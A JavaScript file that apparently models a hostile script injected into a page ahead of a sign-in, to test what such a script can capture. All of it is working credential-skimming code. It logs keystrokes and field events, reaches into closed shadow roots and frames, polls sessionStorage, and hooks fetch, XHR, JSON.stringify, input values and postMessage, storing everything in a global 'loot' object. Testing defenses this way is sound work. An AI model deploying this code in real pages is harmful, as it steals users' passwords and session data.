/*
 * A script that got into the page, before any other. It notes all that it can reach of what is typed and of the sign-in
 * under way, in `loot`, by the way that it came.
 */
(() => {
  const loot = (globalThis.loot = {
    keys: '',
    fields: [],
    document: [],
    requests: [],
    builtins: [],
    messages: [],
    storage: [],
  });
  const { stringify } = JSON;
  const textOf = (value) => (typeof value === 'string' ? value : (stringify(value) ?? ''));
  const note = (way, value) => {
    const text = textOf(value);
    if (text && loot[way].at(-1) !== text) loot[way].push(text);
  };

  // Listeners.
  for (const type of ['beforeinput', 'input', 'change', 'paste', 'keyup', 'focusout', 'submit']) {
    addEventListener(type, (event) => note('fields', event.composedPath()[0].value), true);
  }
  addEventListener('keydown', ({ key }) => key.length === 1 && (loot.keys += key), true);

  // The document, its shadow trees, closed ones too, and the documents of its frames.
  const roots = [document];
  const { attachShadow } = Element.prototype;
  Element.prototype.attachShadow = function (init) {
    const root = attachShadow.call(this, init);
    roots.push(root);
    return root;
  };
  const lookAround = () => {
    const frames = roots.flatMap((root) => [...root.querySelectorAll('iframe')]);
    for (const root of [...roots, ...frames.map((frame) => attempt(() => frame.contentWindow.document))]) {
      for (const field of root?.querySelectorAll('input') ?? []) note('document', field.value);
    }
    for (const store of [sessionStorage, ...frames.map((frame) => attempt(() => frame.contentWindow.sessionStorage))]) {
      if (store) note('storage', { ...store });
    }
  };
  const attempt = (act) => {
    try {
      return act();
    } catch {
      return undefined;
    }
  };
  setInterval(lookAround, 20);

  // What requests are sent with.
  const { fetch: send } = globalThis;
  globalThis.fetch = function (input, init) {
    note('requests', init?.body);
    if (input instanceof Request)
      input
        .clone()
        .text()
        .then((text) => note('requests', text));
    return send.call(this, input, init);
  };
  const { send: sendXhr } = XMLHttpRequest.prototype;
  XMLHttpRequest.prototype.send = function (body) {
    note('requests', body);
    return sendXhr.call(this, body);
  };

  // What a form cannot do without.
  JSON.stringify = function (value, ...rest) {
    const text = stringify.call(this, value, ...rest);
    note('builtins', text);
    return text;
  };
  const { get, set } = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  Object.defineProperty(HTMLInputElement.prototype, 'value', {
    configurable: true,
    get() {
      const value = get.call(this);
      note('builtins', value);
      return value;
    },
    set(value) {
      set.call(this, value);
    },
  });

  // What windows and ports say to each other.
  addEventListener('message', ({ data }) => note('messages', data), true);
  const { postMessage } = MessagePort.prototype;
  MessagePort.prototype.postMessage = function (data, ...rest) {
    note('messages', data);
    return postMessage.call(this, data, ...rest);
  };
  const own = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    ...own,
    set(listener) {
      own.set.call(this, (event) => {
        note('messages', event.data);
        listener.call(this, event);
      });
    },
  });
  const { postMessage: postToWindow } = globalThis;
  globalThis.postMessage = function (data, ...rest) {
    note('messages', data);
    return postToWindow.call(this, data, ...rest);
  };
})();
